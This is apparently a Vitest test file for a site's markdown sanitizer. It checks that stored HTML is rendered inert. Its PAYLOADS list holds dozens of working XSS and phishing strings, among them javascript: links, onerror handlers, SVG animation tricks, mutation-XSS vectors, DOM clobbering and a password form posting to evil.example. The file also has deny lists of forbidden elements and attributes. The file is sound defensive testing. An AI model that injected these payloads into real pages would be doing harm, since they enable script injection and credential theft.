// @vitest-environment jsdom
// The sync's sanitizer (render.ts) is the only pass stored HTML gets: the
// browser inserts it as is (prds/frontend.md, "Untrusted HTML"). Every rule
// the browser's DOMPurify pass used to add is checked here, on the HTML the
// sync would store, parsed the way the page parses it.
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { renderDocument, renderMarkdown } from "./render";

const REMOTE = "https://tracker.example/pixel.png";

/** [what it tries, the markdown (raw HTML in it, as an author or a stolen key could write)]. */
const PAYLOADS: Array<[string, string]> = [
  ["SVG <set> turning a link into javascript:", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">click</text></a></svg>'],
  ["SVG <animate> turning a link into javascript:", '<svg><a href="#"><animate attributeName="href" values="javascript:alert(1)"/><text>click</text></a></svg>'],
  ["SVG xlink:href animation", '<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:alert(1)"/><circle r="400"/></a></svg>'],
  ["style attribute overlay", '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Log in again</div>'],
  ["remote image", `<img src="${REMOTE}" alt="x">`],
  ["protocol-relative image", '<img src="//tracker.example/p.png">'],
  ["backslash image", '<img src="/\\tracker.example/p.png">'],
  ["remote srcset", `<img src="/images/a.svg" srcset="${REMOTE} 2x">`],
  ["remote picture source", `<picture><source srcset="${REMOTE}"><img src="/images/a.svg"></picture>`],
  ["remote video poster", `<video poster="${REMOTE}" src="${REMOTE}"></video>`],
  ["remote audio", `<audio src="${REMOTE}" autoplay></audio>`],
  ["table background", `<table background="${REMOTE}"><tr><td>x</td></tr></table>`],
  ["input image", `<input type="image" src="${REMOTE}">`],
  ["data: image", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ["action on a kept element", '<div action="https://evil.example/">x</div>'],
  ["onerror", '<img src="x" onerror="alert(1)">'],
  ["script", "<script>alert(1)</script>"],
  ["iframe srcdoc", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ["object", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ["base", '<base href="https://evil.example/">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["style element", "<style>body{display:none}@import url(https://evil.example/x.css);</style>"],
  ["javascript: link", '<a href="javascript:alert(1)">a</a>'],
  ["obfuscated javascript: link", '<a href=" JaVa&#x09;Script&colon;alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a>'],
  ["vbscript and data links", '<a href="vbscript:msgbox(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>'],
  ["form posing as the site", '<form action="https://evil.example"><input name="password"><button formaction="https://evil.example">Go</button></form>'],
  ["popover overlay", '<div popover="manual" id="p">x</div><a popovertarget="p">open</a>'],
  ["dialog overlay", "<dialog open>Your session expired</dialog>"],
  ["select and textarea", "<select><option>a</option></select><textarea>b</textarea>"],
  ["site class overlay", '<div class="skeleton site-header">x</div>'],
  ["site class on an allowed element", '<span class="hljs-keyword site-header">x</span><code class="language-ts entry">y</code>'],
  ["template", "<template><img src=x onerror=alert(1)></template>"],
  ["DOM clobbering", '<img name="getElementById"><form name="cookie"></form><a id="location">x</a>'],
  ["mXSS: svg </p> style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ["mXSS: math mglyph style", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
  ["mXSS: nested forms", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"],
  ["mXSS: noscript title", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ["mXSS: xmp title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ["mXSS: svg style", "<svg><style><img src=x onerror=alert(1)></style></svg>"],
  ["mXSS: math style", "<math><style><img src=x onerror=alert(1)></style></math>"],
  ["mXSS: select template", "<select><template><style><!--</style><img src=x onerror=alert(1)>--></style></template></select>"],
  ["mXSS: comment", '<!--><img src=x onerror=alert(1)>--><p title="--><img src=x onerror=alert(1)>">'],
  ["mXSS: textarea", '<textarea></textarea><img src=x onerror=alert(1)>">'],
  ["mXSS: table foster parenting", "<table><a href=javascript:alert(1)><tr><td>x</td></tr></table>"],
];

const FORBIDDEN_ELEMENTS =
  "script, style, template, iframe, frame, object, embed, base, link, meta, form, button, select, textarea, dialog, svg, math, set, animate, video, audio";
const FORBIDDEN_ATTRIBUTES = ["style", "srcset", "background", "action", "formaction", "popover", "popovertarget", "popovertargetaction", "xlink:href"];
const LINK_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
/** The classes the renderer emits, and nothing the site's own CSS uses for its chrome. */
const CONTENT_CLASS =
  /^(?:hljs(?:-[a-z_]+)?|[a-z]+_+|language-[\w-]+|contains-task-list|task-list-item|footnotes|sr-only|data-footnote-backref|heading|heading-anchor|figure-link|table-scroll)$/;

const sameOrigin = (url: string) => new URL(url, location.href).origin === location.origin;

/** Everything under `root` that could run, fetch from another host, pose as the site or cover it. */
function problems(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll(FORBIDDEN_ELEMENTS)) found.push(`<${el.tagName.toLowerCase()}>`);
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    for (const { name, value } of Array.from(el.attributes)) {
      const bad =
        name.startsWith("on") ||
        FORBIDDEN_ATTRIBUTES.includes(name) ||
        ((name === "src" || name === "poster") && !sameOrigin(value)) ||
        (name === "href" && !LINK_PROTOCOLS.has(new URL(value, location.href).protocol)) ||
        (name === "class" && value.split(/\s+/).some((c) => c !== "" && !CONTENT_CLASS.test(c))) ||
        ((name === "id" || name === "name") && value in document);
      if (bad) found.push(`${tag}[${name}=${value}]`);
    }
    if (el instanceof HTMLInputElement && (el.type !== "checkbox" || !el.disabled)) found.push(`input[type=${el.type}]`);
    if (tag === "img" && (el.getAttribute("loading") !== "lazy" || el.getAttribute("decoding") !== "async")) found.push(`img without loading=lazy decoding=async`);
  }
  return found;
}

/** The stored HTML as the page puts it in the DOM: one innerHTML parse. */
function mount(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = html;
  document.body.append(root);
  return root;
}

describe("hostile markdown is stored inert", () => {
  beforeEach(() => vi.stubGlobal("alert", vi.fn()));
  afterEach(() => {
    vi.unstubAllGlobals();
    document.body.replaceChildren();
  });

  it.each(PAYLOADS)("%s", (_name, payload) => {
    const root = mount(renderMarkdown(payload));
    expect(problems(root)).toEqual([]);
    // A second parse changes nothing: no markup that mutates when parsed again.
    expect(mount(root.innerHTML).innerHTML).toBe(root.innerHTML);
    // jsdom runs inline handlers: none may be left to run.
    for (const el of root.querySelectorAll("*")) {
      for (const type of ["click", "error", "load", "focus", "mouseover"]) el.dispatchEvent(new Event(type));
    }
    expect(window.alert).not.toHaveBeenCalled();
  });

  it("keeps the visible text of what it disarms", () => {
    const root = mount(renderMarkdown(`<div style="position:fixed">Log in again</div><img src="${REMOTE}" alt="a chart">`));
    expect(root.textContent).toBe("Log in again");
    expect(root.querySelector("img")?.getAttribute("alt")).toBe("a chart");
    expect(root.querySelector("img")?.hasAttribute("src")).toBe(false);
  });
});

describe("the rules the browser's pass used to add", () => {
  it("removes every src that is not on the site's origin, however it is spelled, and tells the sync about images", () => {
    const sources = [REMOTE, "//tracker.example/a.png", "/\\tracker.example/a.png", "\\\\tracker.example/a.png", "https:tracker.example/a.png"];
    const rendered = renderDocument(sources.map((src) => `<img src="${src}" alt="x">`).join(""));
    expect(rendered.html).not.toContain("tracker.example");
    expect(rendered.remoteImages).toEqual(sources);
  });

  it("keeps the site's own images, root-relative or relative", () => {
    const root = mount(renderMarkdown('Inline ![a](/images/a.png) and <img src="images/b.png" alt="b">'));
    expect(Array.from(root.querySelectorAll("img"), (img) => img.getAttribute("src"))).toEqual(["/images/a.png", "images/b.png"]);
  });

  it("drops srcset from picture sources and action from any element", () => {
    const html = renderMarkdown(`<picture><source srcset="/images/a.png 2x" media="(min-width: 1px)"><img src="/images/a.png"></picture><div action="/x">y</div>`);
    expect(html).not.toMatch(/srcset|action/i);
  });

  it("every image loads lazily and decodes async, in a figure or inline", () => {
    const root = mount(renderMarkdown(`![A chart](/images/a.png)\n\nText ![icon](/favicon.svg) and <img src="/images/c.png">.`));
    const images = Array.from(root.querySelectorAll("img"));
    expect(images).toHaveLength(3);
    for (const img of images) expect([img.getAttribute("loading"), img.getAttribute("decoding")]).toEqual(["lazy", "async"]);
  });

  it("any input becomes a disabled checkbox", () => {
    const root = mount(renderMarkdown('- [ ] task\n\n<input type="text" name="q" value="x"><input type="checkbox">'));
    const inputs = Array.from(root.querySelectorAll("input"));
    expect(inputs).toHaveLength(3);
    for (const input of inputs) expect([input.type, input.disabled]).toEqual(["checkbox", true]);
  });

  it("keeps only the classes the renderer emits", () => {
    const root = mount(renderMarkdown('<p class="site-header">a</p><span class="hljs-string skeleton">b</span>\n\n```ts\nconst x = 1;\n```'));
    expect(root.querySelector("p")?.hasAttribute("class")).toBe(false);
    expect(root.querySelector("span")?.className).toBe("hljs-string");
    expect(root.querySelector("code")?.className).toBe("hljs language-ts");
  });
});
